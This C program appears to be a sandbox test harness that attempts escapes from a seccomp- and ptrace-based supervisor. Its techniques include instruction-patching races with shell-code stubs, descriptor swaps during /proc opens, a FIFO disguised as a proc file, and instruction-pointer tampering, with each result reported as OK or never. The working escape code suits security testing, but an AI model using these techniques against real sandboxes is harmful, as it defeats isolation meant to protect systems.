/* attackgate install | script | exchange [FILE] | fifo | place HOW: a program against who makes calls in its name.
 * A tracer that lets a thread make a call of its own has it execute an instruction of the program's; these have other ideas of what stands there, or of what came of it.
 * `install`: the instruction becomes a jump while a filter with a listener is being installed, and behind the jump the parent is read by process_vm_readv(2), which
 * whoever supervises may refuse. `script`: the same while a file of proc(5) is being exchanged, in a program with a listener. `exchange`: the memory file that is about
 * to be filled becomes FILE, which is opened with O_PATH alone; without FILE another memory file, the control: the text is in that. `fifo`: a pipe that is called as a
 * file of proc(5), and whose opening blocks. `place there`: a call that the box refuses is made by a tracee at the instruction pointer at which our calls are held,
 * which proc_pid_syscall(5) shows; `place here`: where it is, the control. */
#include "guest.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stddef.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/user.h>

/* A busy machine needs more; a quiet one a few. */
#define TRIES 2000
#define ENOUGH 10
#define STUB 0x40

static unsigned char *page;
static volatile long secret = 0;
static long copy;
static struct iovec here = {&copy, sizeof copy}, there = {(void *)&secret, sizeof secret};

/* "syscall; ret", which somebody may write to; and at STUB another call, and then the end of the process. */
static void prepare(long number, const long *args) {
  page = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (page == MAP_FAILED) die(9, "mmap: %m");
  memcpy(page, "\x0f\x05\xc3", 3);
  unsigned char *at = page + STUB;
  static const char *const moves[] = {"\x48\xbf", "\x48\xbe", "\x48\xba", "\x49\xba", "\x49\xb8", "\x49\xb9", "\x48\xb8"};
  for (int i = 0; i < 7; i++) {
    memcpy(at, moves[i], 2);
    memcpy(at + 2, i < 6 ? &args[i] : &number, 8);
    at += 10;
  }
  /* Its result is the process's: syscall; mov %eax, %edi; mov $231, %eax; syscall */
  memcpy(at, "\x0f\x05\x89\xc7\xb8\xe7\x00\x00\x00\x0f\x05", 11);
}
static long through(long number, long a, long b, long c, long d) {
  long result;
  register long r10 __asm__("r10") = d;
  __asm__ volatile("call *%[gate]" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c), "r"(r10), [gate] "r"(page) : "rcx", "r11", "memory");
  return result;
}
static int next_descriptor(void) {
  int fd = dup(0);
  close(fd);
  return fd;
}

static volatile int awaited = -1, victim = -1;
static void *turns(void *unused) {
  while (fcntl(awaited, F_GETFD) < 0) {
  }
  __atomic_store_n((uint16_t *)page, 0xeb | (STUB - 2) << 8, __ATOMIC_SEQ_CST);
  return unused;
}
static void *replaces(void *unused) {
  while (fcntl(awaited, F_GETFD) < 0) {
  }
  dup2(victim, awaited);
  return unused;
}

static long listen_through(unsigned number) {
  struct sock_filter code[] = {
      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, number, 0, 1),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
  };
  struct sock_fprog program = {4, code};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  return through(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, (long)&program, 0);
}

static pid_t stopped_child(void) {
  pid_t pid = fork();
  if (pid == 0) {
    raise(SIGSTOP);
    _exit(0);
  }
  int status;
  waitpid(pid, &status, WUNTRACED);
  return pid;
}

static void reads_parent(void) {
  long args[6] = {getppid(), (long)&here, 1, (long)&there, 1, 0};
  prepare(SYS_process_vm_readv, args);
}
static void installing(void) {
  reads_parent();
  awaited = next_descriptor();
  pthread_t thread;
  pthread_create(&thread, NULL, turns, NULL);
  listen_through(SYS_getpgid);
}
static void scripted(void) {
  reads_parent();
  if (listen_through(SYS_getpgid) < 0) die(9, "no listener");
  pid_t child = stopped_child();
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/status", (int)child);
  awaited = next_descriptor();
  pthread_t thread;
  pthread_create(&thread, NULL, turns, NULL);
  through(SYS_openat, AT_FDCWD, (long)path, O_RDONLY, 0);
  kill(child, SIGKILL);
}
static void exchanging(void) {
  prctl(PR_SET_NAME, "from the box", 0, 0, 0);
  pid_t child = stopped_child();
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/status", (int)child);
  awaited = next_descriptor() + 1;
  pthread_t thread;
  pthread_create(&thread, NULL, replaces, NULL);
  close(open(path, O_RDONLY));
  kill(child, SIGKILL);
}

/* Tried by a new process each time: what behind the jump came of the call, or 100 without a jump. The secret is here too where the process went on. */
static int tried(void (*attack)(void)) {
  pid_t pid = fork();
  if (pid == 0) {
    secret = 0;
    attack();
    _exit(copy == 4242 ? (int)sizeof copy : 100);
  }
  int status;
  waitpid(pid, &status, 0);
  return WIFEXITED(status) ? WEXITSTATUS(status) : 200;
}

static void turned(void (*attack)(void)) {
  int got = 0, refused = 0;
  for (int i = 0; i < TRIES && got + refused < ENOUGH; i++) {
    int end = tried(attack);
    if (end == 9) die(9, "no listener");
    got += end == sizeof copy;
    refused += end == 255;
  }
  printf("turned %s\nread %s\n", got + refused ? "OK" : "never", got ? "OK" : "never");
}

/* Where a call that waits for a supervisor is held, as the kernel sees it. */
static unsigned long held_place(void) {
  int got[2];
  if (pipe(got)) die(9, "pipe: %m");
  pid_t pid = fork();
  if (pid == 0) {
    prepare(0, (const long[6]){0});
    long listener = listen_through(SYS_getpgid);
    if (listener < 0 || write(got[1], "x", 1) != 1) _exit(9);
    syscall(SYS_getpgid, 0);
    _exit(0);
  }
  char path[64], text[256] = "", byte;
  if (read(got[0], &byte, 1) != 1) die(9, "no listener");
  snprintf(path, sizeof path, "/proc/%d/syscall", (int)pid);
  unsigned long place = 0;
  for (int i = 0; i < 20000 && !place; i++) {
    FILE *file = fopen(path, "r");
    if (file && fgets(text, sizeof text, file) && atoi(text) == SYS_getpgid) place = strtoul(strrchr(text, ' '), NULL, 16);
    if (file) fclose(file);
    if (!(place >> 63)) place = 0;
    usleep(1000);
  }
  kill(pid, SIGKILL);
  waitpid(pid, NULL, 0);
  return place;
}
static void place(int there) {
  unsigned long at = there ? held_place() : 0;
  printf("found %s\n", !there || at ? "OK" : "never");
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    ptrace(PTRACE_TRACEME, 0, 0, 0);
    raise(SIGSTOP);
    syscall(SYS_keyctl, 0, -3, 0, 0, 0);
    _exit(0);
  }
  struct user_regs_struct was, now;
  int status;
  waitpid(pid, &status, 0);
  do {
    ptrace(PTRACE_SYSCALL, pid, 0, 0);
    if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status)) die(9, "gone");
    ptrace(PTRACE_GETREGS, pid, 0, &was);
  } while (was.orig_rax != SYS_keyctl);
  now = was;
  if (at) now.rip = at;
  ptrace(PTRACE_SETREGS, pid, 0, &now);
  ptrace(PTRACE_SYSCALL, pid, 0, 0);
  if (waitpid(pid, &status, 0) != pid || !WIFSTOPPED(status)) die(9, "ended");
  ptrace(PTRACE_GETREGS, pid, 0, &now);
  errno = (int)-now.rax;
  printf("keyctl %s\n", errname((long)now.rax));
  kill(pid, SIGKILL);
}

int main(int argc, char **argv) {
  if (argc < 2) return 2;
  secret = 4242;
  const char *how = argv[1];
  if (!strcmp(how, "install")) return turned(installing), 0;
  if (!strcmp(how, "script")) return turned(scripted), 0;
  if (!strcmp(how, "exchange")) {
    victim = argc > 2 ? open(argv[2], O_PATH) : memfd_create("control", 0);
    if (argc > 2) printf("path %s\nwrite %s\n", errname(victim), errname(open(argv[2], O_WRONLY)));
    fflush(stdout);
    char text[32] = "";
    for (int i = 0; i < (argc > 2 ? 50 : TRIES) && !*text; i++) {
      tried(exchanging);
      if (argc == 2 && pread(victim, text, sizeof text - 1, 0) < 0) return 9;
    }
    if (argc == 2) printf("text %s\n", strncmp(text, "Name:\tfrom the box", 18) ? "never" : "OK");
    puts("done");
    return 0;
  }
  if (!strcmp(how, "place") && argc > 2) return place(!strcmp(argv[2], "there")), 0;
  if (!strcmp(how, "fifo")) {
    char path[64];
    snprintf(path, sizeof path, "/tmp/%d", (int)getpid());
    mkdir(path, 0700);
    strcat(path, "/status");
    if (mkfifo(path, 0600)) die(9, "mkfifo: %m");
    stopped_child();
    puts("opens");
    fflush(stdout);
    int fd = open(path, O_RDONLY | O_NONBLOCK);
    printf("open %s\n", errname(fd));
    return 0;
  }
  return 2;
}
